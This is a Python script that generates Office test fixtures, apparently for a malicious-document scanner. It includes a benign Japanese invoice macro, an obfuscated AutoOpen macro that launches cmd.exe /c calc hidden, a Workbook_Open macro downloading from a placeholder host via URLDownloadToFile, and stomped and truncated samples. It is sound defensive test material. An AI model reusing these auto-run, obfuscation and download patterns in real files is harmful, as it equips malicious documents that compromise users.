#!/usr/bin/python3
"""Writes the documents of tests/cases/office, rtf and onenote again.

usage: tests/make/office-cases.py [CASE…]     all when none is named

Everything in them is invented and does nothing: the macros are text that no Office would run from
here, the programs are a few letters.
"""

import sys
import zipfile
from io import BytesIO
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from ole2 import CLASS, compound  # noqa: E402
from vba import project  # noqa: E402

CASES = Path(__file__).resolve().parent.parent / "cases"
MADE = {}


def case(name):
    def keep(make):
        MADE[name] = make
        return make

    return keep


def package(parts):
    """A zip whose bytes are the same each time."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in parts.items():
            z.writestr(zipfile.ZipInfo(name, (2026, 10, 1, 9, 0, 0)),
                       text.encode() if isinstance(text, str) else text, zipfile.ZIP_DEFLATED)
    return out.getvalue()


TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def relations(*items):
    """(type, target, external)"""
    rows = "".join(
        f'<Relationship Id="rId{i}" Type="{REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if outside else "") + "/>"
        for i, (kind, target, outside) in enumerate(items, 1)
    )
    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            f'package/2006/relationships">{rows}</Relationships>')


def word(body, rels=(), more=None):
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations(("officeDocument", "word/document.xml", False)),
        "word/document.xml": f'<?xml version="1.0"?><w:document xmlns:w="{W}" xmlns:r="{REL}">'
                             f"<w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": relations(*rels),
    }
    return package(parts | (more or {}))


def p(text):
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def excel(sheets="", rels=(), more=None):
    parts = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{S}" xmlns:r="{REL}">{sheets}</workbook>',
        "xl/_rels/workbook.xml.rels": relations(*rels),
    }
    return package(parts | (more or {}))


def vba_bin(modules, **more):
    return compound({"VBA": project(modules, **more), "PROJECT": b'ID="{0}"\r\n'})


# --- macros -----------------------------------------------------------------------------------

HONEST = """Option Explicit

Private Sub Workbook_Open()
    Worksheets("集計").Activate
    ActiveWindow.Zoom = 90
End Sub

Sub 合計を出す()
    Dim r As Long, total As Currency
    For r = 2 To Cells(Rows.Count, 3).End(xlUp).Row
        total = total + Cells(r, 3).Value
    Next
    Range("E1").Value = total
    Range("E1").NumberFormat = "#,##0"
    MsgBox "合計は " & total & " 円です。", vbInformation, "請求書"
End Sub
"""

HOSTILE = """Sub AutoOpen()
    Dim a As String, b As String
    a = "cm" & Chr(100) & ".exe /c "
    b = StrReverse("clac")
    Shell a & b, 0
End Sub
"""

LOADS = """Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias "URLDownloadToFileA" (ByVal c As LongPtr, ByVal u As String, ByVal f As String, ByVal r As Long, ByVal b As LongPtr) As Long
Private Sub Workbook_Open()
    Dim u As String
    u = Join(Array("http:", "", "files.example", "a.txt"), "/")
    URLDownloadToFile 0, u, Environ("TEMP") & "\\a.txt", 0, 0
End Sub
"""


@case("office/macro-honest/input.xlsm")
def macro_honest():
    return excel(more={"xl/vbaProject.bin": vba_bin({"ThisWorkbook": HONEST})})


@case("office/macro-runs/input.docm")
def macro_runs():
    return word(p("お見積書"), more={"word/vbaProject.bin": vba_bin({"NewMacros": HOSTILE})})


@case("office/macro-loads/input.xls")
def macro_loads():
    return compound({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(12) + b"\x0a\x00\x00\x00",
                     "_VBA_PROJECT_CUR": {"VBA": project({"ThisWorkbook": LOADS})}})


@case("office/macro-stomped/input.doc")
def macro_stomped():
    words = b"\0".join((b"", b"AutoOpen", b"Shell", b"CreateObject", b""))
    return compound({"WordDocument": bytes(64), "Macros": {
        "VBA": project({"ThisDocument": ""}, cache=bytes(900), compiled=words)}})


@case("office/macro-cut/input.doc")
def macro_cut():
    whole = compound({"Macros": {"VBA": project({"NewMacros": HOSTILE + "' 余白\n" * 40})},
                      "WordDocument": bytes(9000)})
    return whole[:-1024]  # the directory is gone, the macro is not


# --- writing ----------------------------------------------------------------------------------


def main():
    for name, make in MADE.items():
        if sys.argv[1:] and not any(a in name for a in sys.argv[1:]):
            continue
        path = CASES / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(make())
        print(f"{path.stat().st_size:6} {name}")


if __name__ == "__main__":
    main()
